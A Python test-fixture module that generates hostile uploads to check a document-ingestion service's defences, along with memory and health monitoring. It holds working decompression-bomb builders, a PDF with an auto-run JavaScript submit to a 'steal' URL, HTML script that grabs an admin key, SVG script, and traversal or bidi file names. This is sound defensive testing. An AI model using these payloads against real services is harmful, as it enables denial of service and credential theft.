"""Hostile uploads, generated in memory (small to hold, some huge when unpacked), and the memory sampler that watches
the service while it ingests them. Shared by tests/integration/test_hostile_input.py and `python -m bench.hostile`.

Each HostileFile says what must happen to it: `ready`, `failed` with a reason matching `reason` (a regex searched in
the document's error), or `rejected` up front with an HTTP status.
"""

from __future__ import annotations

import asyncio
import os
import queue
import struct
import threading
import time
import uuid
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Self

import httpx

CORPUS = Path(__file__).resolve().parents[1].parent / "shared" / "corpus" / "docs"
MIB = 1024 * 1024
TOO_LARGE = r"^too large when unpacked: "


@dataclass(frozen=True)
class HostileFile:
    name: str  # the file name as uploaded (may be hostile itself)
    data: bytes
    expect: str  # "ready" | "failed" | "rejected" | "settled" (ready or failed, either is fine)
    reason: str = ""  # failed: regex searched in the error; rejected: regex searched in the problem's detail
    status: int = 0  # rejected: the HTTP status
    label: str = ""  # for tables and test ids; defaults to the name

    @property
    def title(self) -> str:
        return self.label or self.name


# --- a minimal zip writer: members whose compressed bytes are built from repeated segments -------------------------


@dataclass
class _Member:
    name: str
    method: int
    raw: bytes  # the compressed (or stored) bytes
    crc: int
    size: int  # the real uncompressed size
    declared: int | None = None  # the uncompressed size the headers claim (None: the real one)


def _deflated(parts: list[tuple[bytes, int]]) -> tuple[bytes, int, int]:
    """A raw deflate stream of each (data, count) part repeated `count` times, built without ever holding or
    compressing the expansion: after a full flush the compressor's history is empty, so one compressed segment
    decodes the same wherever it is repeated. Returns (compressed, crc32, size)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    out, crc, size = bytearray(), 0, 0
    for data, count in parts:
        segment = compressor.compress(data) + compressor.flush(zlib.Z_FULL_FLUSH)
        out += segment * count
        for _ in range(count):
            crc = zlib.crc32(data, crc)
        size += len(data) * count
    out += compressor.flush()
    return bytes(out), crc, size


def _member(name: str, data: bytes, method: int = zipfile.ZIP_DEFLATED) -> _Member:
    raw = data if method == zipfile.ZIP_STORED else _deflated([(data, 1)])[0]
    return _Member(name, method, raw, zlib.crc32(data), len(data))


def _bomb_member(name: str, parts: list[tuple[bytes, int]], declared: int | None = None) -> _Member:
    raw, crc, size = _deflated(parts)
    return _Member(name, zipfile.ZIP_DEFLATED, raw, crc, size, declared)


def _write_zip(members: list[_Member]) -> bytes:
    out, central = bytearray(), bytearray()
    for m in members:
        name = m.name.encode()
        size = m.size if m.declared is None else m.declared
        offset = len(out)
        out += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, m.method, 0, 33, m.crc, len(m.raw), size, len(name), 0)
        out += name + m.raw
        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, m.method, 0, 33, m.crc, len(m.raw), size,
                               len(name), 0, 0, 0, 0, 0, offset) + name  # fmt: skip
    start = len(out)
    out += central + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), start, 0)
    return bytes(out)


def _base_members(path: Path, replace: dict[str, _Member] | None = None, extra: list[_Member] | None = None) -> bytes:
    """A real document of the corpus, rebuilt member by member (same order and methods), some replaced or added."""
    replace = replace or {}
    members = []
    with zipfile.ZipFile(path) as archive:
        for info in archive.infolist():
            if info.is_dir():
                continue
            members.append(replace.pop(info.filename, None) or _member(info.filename, archive.read(info),
                                                                       info.compress_type))  # fmt: skip
    assert not replace, f"{path.name} has no member {sorted(replace)}"
    return _write_zip(members + list(extra or []))


def _markup(prefix: bytes, unit: bytes, total: int, suffix: bytes) -> list[tuple[bytes, int]]:
    block = unit * max(1, MIB // len(unit))
    return [(prefix, 1), (block, max(1, total // len(block))), (suffix, 1)]


_W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
DOCX_BODY = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document ' + _W + b"><w:body>",
             b"<w:p><w:r><w:t>All work and no play makes a dull document.</w:t></w:r></w:p>",
             b"</w:body></w:document>")  # fmt: skip


def docx_markup_bomb(total: int = 17 * MIB, lie: bool = False) -> bytes:
    """The review's second case: a ~50 KB .docx whose word/document.xml is 17 MB of paragraphs (valid XML). With
    `lie`, both headers claim 1000 bytes, so only inflating the stream reveals the size."""
    prefix, unit, suffix = DOCX_BODY
    member = _bomb_member("word/document.xml", _markup(prefix, unit, total, suffix), declared=1000 if lie else None)
    return _base_members(CORPUS / "docx" / "simple.docx", replace={"word/document.xml": member})


def docx_zero_bomb(total: int = 600 * MIB) -> bytes:
    """The review's first case: a ~600 KB .docx carrying a 600 MB part (zeros) beside a normal document."""
    return _base_members(
        CORPUS / "docx" / "simple.docx", extra=[_bomb_member("word/media/image1.png", [(b"\0" * MIB, total // MIB)])]
    )


def xlsx_bomb(total: int = 64 * MIB) -> bytes:
    sheet = _markup(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                    b'spreadsheetml/2006/main"><sheetData>', b'<row><c t="inlineStr"><is><t>x</t></is></c></row>',
                    total, b"</sheetData></worksheet>")  # fmt: skip
    return _base_members(
        CORPUS / "xlsx" / "stanley-cups.xlsx",
        replace={"xl/worksheets/sheet1.xml": _bomb_member("xl/worksheets/sheet1.xml", sheet)},
    )


def odt_bomb(total: int = 64 * MIB) -> bytes:
    content = _markup(b'<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:'
                      b'tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">'
                      b"<office:body><office:text>", b"<text:p>All work and no play.</text:p>",
                      total, b"</office:text></office:body></office:document-content>")  # fmt: skip
    return _base_members(CORPUS / "odt" / "simple.odt", replace={"content.xml": _bomb_member("content.xml", content)})


def epub_bomb(total: int = 64 * MIB) -> bytes:
    path = CORPUS / "epub" / "winter-sports.epub"
    with zipfile.ZipFile(path) as archive:
        chapter = next(n for n in archive.namelist() if n.endswith((".xhtml", ".html")))
    page = _markup(b'<?xml version="1.0" encoding="utf-8"?><html xmlns="http://www.w3.org/1999/xhtml"><body>',
                   b"<p>All work and no play.</p>", total, b"</body></html>")  # fmt: skip
    return _base_members(path, replace={chapter: _bomb_member(chapter, page)})


def zip_bomb(total: int = 256 * MIB) -> bytes:
    return _write_zip([_member("readme.txt", b"Nothing to see here."),
                       _bomb_member("zeros.txt", [(b"\0" * MIB, total // MIB)])])  # fmt: skip


def zip_of_zip_bombs(count: int = 16, each: int = 100 * MIB) -> bytes:
    """A 42.zip-like archive: the outer members are zips (incompressible, ratio ~1), each one a bomb."""
    inner = zip_bomb(each)
    return _write_zip([_member(f"part{i}.zip", inner) for i in range(count)])


def nested_zips() -> bytes:
    """zip in zip in zip, all small and legitimate: the outer two levels are read, the third is not."""
    deepest = _write_zip([_member("deep.txt", b"Three levels down: never read.")])
    middle = _write_zip([_member("middle.txt", b"Nested archive text, one level down."),
                         _member("deepest.zip", deepest)])  # fmt: skip
    return _write_zip([_member("top.txt", b"Archive text at the top level."), _member("middle.zip", middle)])


def zip_holding_a_docx_bomb() -> bytes:
    return _write_zip([_member("notes.txt", b"An innocent note."), _member("report.docx", docx_markup_bomb())])


# --- PDFs, markup with scripts, text ------------------------------------------------------------------------------


def pdf(text: str = "Quarterly figures for the hostile input test", extra_catalog: bytes = b"",
        extra_objects: tuple[bytes, ...] = ()) -> bytes:  # fmt: skip
    """A one-page PDF with a text layer and a correct xref table; `extra_catalog` goes into the catalog."""
    stream = f"BT /F1 18 Tf 72 700 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + extra_catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
            b" /Resources << /Font << /F1 5 0 R >> >> >>"
        ),
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *extra_objects,
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def pdf_with_javascript() -> bytes:
    js = b"<< /S /JavaScript /JS (app.alert('pwned'); this.submitForm('http://127.0.0.1:9/steal');) >>"
    return pdf("Invoice with an OpenAction script", extra_catalog=b"/OpenAction 6 0 R /Names << /JavaScript << "
               b"/Names [(x) 6 0 R] >> >>", extra_objects=(js,))  # fmt: skip


SCRIPT_MARKER = "exfiltrateAdminKey"
HTML_WITH_SCRIPT = (f"<!doctype html><html><head><title>Travel policy</title><script>function {SCRIPT_MARKER}() "
                    "{ fetch('/v1/keys', {headers: {Authorization: 'Bearer ' + localStorage.kbKey}}) }</script>"
                    "</head><body onload='exfiltrateAdminKey()'><h1>Travel policy</h1><p>Economy class for flights "
                    "under six hours. Receipts go to the finance team within thirty days.</p>"
                    "<img src=x onerror='exfiltrateAdminKey()'></body></html>").encode()  # fmt: skip
SVG_WITH_SCRIPT = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
                   b"<script>alert(document.domain)</script><text x='0' y='10'>hi</text></svg>")  # fmt: skip


def png_with_text() -> bytes:
    return (CORPUS / "img" / "table-multi-row-column-cells.png").read_bytes()


def single_line(size: int = 50 * MIB) -> bytes:
    words = b"lorem ipsum dolor sit amet consectetur "
    return words * (size // len(words))


def hostile_files(max_upload_bytes: int) -> list[HostileFile]:
    """The generated hostile uploads. `max_upload_bytes`: the service's limit (one file is made just past it)."""
    memo = (CORPUS / "pdf" / "fake-memo.pdf").read_bytes()
    long_pdf = (CORPUS / "pdf" / "a1977-backus-p21.pdf").read_bytes()
    text = b"Plain words about the expense policy. Receipts within thirty days.\n"
    return [
        HostileFile(
            "report.docx",
            docx_markup_bomb(),
            "failed",
            TOO_LARGE + r"word/document\.xml expands",
            label="docx: 17 MB of XML (ratio bomb)",
        ),
        HostileFile(
            "report-lying.docx",
            docx_markup_bomb(lie=True),
            "failed",
            TOO_LARGE + r"word/document\.xml",
            label="docx: 17 MB of XML, sizes understated",
        ),
        HostileFile("handbook.docx", docx_zero_bomb(), "failed", TOO_LARGE, label="docx: 600 MB part (zeros)"),
        HostileFile("figures.xlsx", xlsx_bomb(), "failed", TOO_LARGE, label="xlsx: 64 MB sheet"),
        HostileFile("minutes.odt", odt_bomb(), "failed", TOO_LARGE, label="odt: 64 MB content.xml"),
        HostileFile("novel.epub", epub_bomb(), "failed", TOO_LARGE, label="epub: 64 MB chapter"),
        HostileFile("archive.zip", zip_bomb(), "failed", TOO_LARGE, label="zip: 256 MB of zeros"),
        HostileFile("parts.zip", zip_of_zip_bombs(), "failed", TOO_LARGE, label="zip of 16 zip bombs (1.6 GB)"),
        HostileFile("bundle.zip", zip_holding_a_docx_bomb(), "failed", TOO_LARGE, label="zip holding a docx bomb"),
        HostileFile("nested.zip", nested_zips(), "ready", label="zip in zip in zip"),
        HostileFile(
            "truncated.pdf",
            long_pdf[: len(long_pdf) // 3],
            "settled",
            r"^(corrupt|empty)",
            label="pdf: truncated to a third",
        ),
        HostileFile(
            "malformed.pdf",
            b"%PDF-1.7\n" + os.urandom(20_000),
            "failed",
            r"^(corrupt|empty)",
            label="pdf: header and random bytes",
        ),
        HostileFile("invoice.pdf", pdf_with_javascript(), "ready", label="pdf: /OpenAction /JavaScript"),
        HostileFile("policy.html", HTML_WITH_SCRIPT, "ready", label="html with <script> and handlers"),
        HostileFile("logo.svg", SVG_WITH_SCRIPT, "settled", r"^unsupported format", label="svg with <script>"),
        HostileFile("empty.txt", b"", "rejected", r"empty", status=400, label="0-byte file"),
        HostileFile(
            "huge.bin",
            b"\0" * (max_upload_bytes + 1),
            "rejected",
            r"exceeds the upload limit",
            status=413,
            label="1 byte over the upload limit",
        ),
        HostileFile("quarterly.docx", memo, "ready", label="pdf named .docx"),
        HostileFile("notes.txt", png_with_text(), "ready", label="png named .txt"),
        HostileFile(
            "latin.txt",
            b"caf\xe9 \xff\xfe broken \xc3\x28 utf-8 \x80\x81 " * 200 + b"\n" + text,
            "ready",
            label="invalid UTF-8",
        ),
        HostileFile("line.txt", single_line(), "failed", r"^too long: \d+ characters", label="50 MB single line"),
        HostileFile("../../etc/passwd", text, "ready", label="name ../../etc/passwd"),
        HostileFile("..\\..\\windows\\x.txt", text + b"windows", "ready", label="name ..\\..\\windows\\x.txt"),
        HostileFile("bell\x07\x1b[31mred\r\n.txt", text + b"controls", "ready", label="name with control characters"),
        HostileFile("invoice\u202etxt.exe", text + b"bidi", "ready", label="name with U+202E (bidi override)"),
    ]


def corpus_files() -> list[Path]:
    return sorted(p for p in CORPUS.rglob("*") if p.is_file())


# --- memory ---------------------------------------------------------------------------------------------------------


@dataclass
class MemorySampler:
    """Samples the RSS of a process (the server) and of each of its child process trees (the parser, with the
    LibreOffice/tesseract/pandoc processes it starts) every `interval` seconds, in a thread. `child_pids`: only these
    children (asked at each sample: the parser may be restarted), e.g. when the server runs inside a test process
    that has other children (a vLLM server of another test). `server_start`: the server's RSS when sampling began,
    so a test in a long-lived process can bound the growth rather than what earlier tests loaded."""

    pid: int = field(default_factory=os.getpid)
    interval: float = 0.1
    child_pids: Callable[[], Iterable[int]] | None = None
    server_start: int = 0
    server_peak: int = 0
    child_peak: int = 0
    _stop: threading.Event = field(default_factory=threading.Event)
    _thread: threading.Thread | None = None

    def reset(self) -> tuple[int, int]:
        peaks = (self.server_peak, self.child_peak)
        self.server_peak = self.child_peak = 0
        return peaks

    def sample(self) -> None:
        import psutil

        try:
            process = psutil.Process(self.pid)
            self.server_peak = max(self.server_peak, process.memory_info().rss)
            children = process.children()
            if self.child_pids is not None:
                wanted = set(self.child_pids())
                children = [c for c in children if c.pid in wanted]
            for child in children:
                tree = [child]
                try:
                    tree += child.children(recursive=True)
                except psutil.Error:  # the process ended meanwhile: nothing to measure or kill
                    pass
                rss = 0
                for p in tree:
                    try:
                        rss += p.memory_info().rss
                    except psutil.Error:  # the process ended meanwhile: nothing to measure or kill
                        pass
                self.child_peak = max(self.child_peak, rss)
        except psutil.Error:  # the process ended meanwhile: nothing to measure or kill
            pass

    def __enter__(self) -> Self:
        import psutil

        try:
            self.server_start = psutil.Process(self.pid).memory_info().rss
        except psutil.Error:  # the process ended meanwhile: nothing to measure or kill
            pass

        def run() -> None:
            while not self._stop.wait(self.interval):
                self.sample()

        self._thread = threading.Thread(target=run, name="memory-sampler", daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        if self._thread is not None:
            self._thread.join(5)


def snapshot(root: Path) -> set[str]:
    """Every file and folder under `root` (relative paths), to see what a run wrote."""
    return {p.relative_to(root).as_posix() for p in root.rglob("*")}


# --- the service, served in a thread of this process, and its clients ----------------------------------------------


@contextmanager
def served(app: Any, timeout: float = 300) -> Iterator[str]:
    """The app under uvicorn (tests.support.serve_in_process) on an event loop in a thread of this process, so that
    plain threads can upload, poll and probe it at the same time. Yields its URL."""
    from tests.support import serve_in_process

    started: queue.Queue[Any] = queue.Queue()
    stop = threading.Event()

    async def main() -> None:
        async with serve_in_process(app, timeout) as url:
            started.put(url)
            while not stop.is_set():
                await asyncio.sleep(0.1)

    def run() -> None:
        try:
            asyncio.run(main())
        except BaseException as exc:  # noqa: BLE001 - handed to the caller
            started.put(exc)

    thread = threading.Thread(target=run, name="kb-served", daemon=True)
    thread.start()
    url = started.get(timeout=timeout + 30)
    if isinstance(url, BaseException):
        raise url
    try:
        yield url
    finally:
        stop.set()
        thread.join(150)


def upload(client: httpx.Client, name: str, data: bytes) -> httpx.Response:
    """POST one file as multipart field `files`. The body is built here so that the file name reaches the server as
    given (httpx would percent-encode control characters); only CR, LF and the quote are escaped, as browsers do."""
    boundary = f"kb-hostile-{uuid.uuid4().hex}".encode()
    quoted = name.replace("\r", "%0D").replace("\n", "%0A").replace('"', "%22").encode("utf-8", "surrogateescape")
    body = b"".join(
        [
            b"--",
            boundary,
            b'\r\nContent-Disposition: form-data; name="files"; filename="',
            quoted,
            b'"\r\nContent-Type: application/octet-stream\r\n\r\n',
            data,
            b"\r\n--",
            boundary,
            b"--\r\n",
        ]
    )
    headers = {"Content-Type": f"multipart/form-data; boundary={boundary.decode()}"}
    return client.post("/v1/documents", content=body, headers=headers, timeout=300)


def wait_settled(client: httpx.Client, document_ids: list[str], timeout: float) -> dict[str, dict[str, Any]]:
    """Each document once it is `ready` or `failed` (one list request per poll); AssertionError naming the others
    past `timeout`."""
    deadline = time.monotonic() + timeout
    wanted = set(document_ids)
    while True:
        listed = client.get("/v1/documents")
        assert listed.status_code == 200, listed.text
        documents = {d["document_id"]: d for d in listed.json()["documents"] if d["document_id"] in wanted}
        settled = {i: d for i, d in documents.items() if d["status"] in ("ready", "failed")}
        if len(settled) == len(wanted):
            return settled
        assert time.monotonic() < deadline, f"not settled after {timeout:.0f} s: {sorted(wanted - set(settled))}"
        time.sleep(0.5)


@dataclass
class HealthProbe:
    """While ingestion runs: GET /healthz and POST /v1/search in a loop; every status code is kept."""

    url: str
    headers: dict[str, str]
    statuses: list[tuple[str, int]] = field(default_factory=list)
    slowest_s: float = 0.0
    _stop: threading.Event = field(default_factory=threading.Event)
    _thread: threading.Thread | None = None

    def _run(self) -> None:
        with httpx.Client(base_url=self.url, headers=self.headers, timeout=60) as client:
            while not self._stop.wait(0.5):
                for method, path, body in (
                    ("GET", "/healthz", None),
                    ("POST", "/v1/search", {"query": "expense policy receipts", "top_k": 3}),
                ):
                    start = time.perf_counter()
                    try:
                        status = client.request(method, path, json=body).status_code
                    except httpx.HTTPError as exc:
                        status = -1
                        self.statuses.append((f"{path}: {type(exc).__name__}", status))
                        continue
                    self.slowest_s = max(self.slowest_s, time.perf_counter() - start)
                    self.statuses.append((path, status))

    def __enter__(self) -> Self:
        self._thread = threading.Thread(target=self._run, name="health-probe", daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        if self._thread is not None:
            self._thread.join(70)

    @property
    def failures(self) -> list[tuple[str, int]]:
        return [(path, status) for path, status in self.statuses if status != 200]
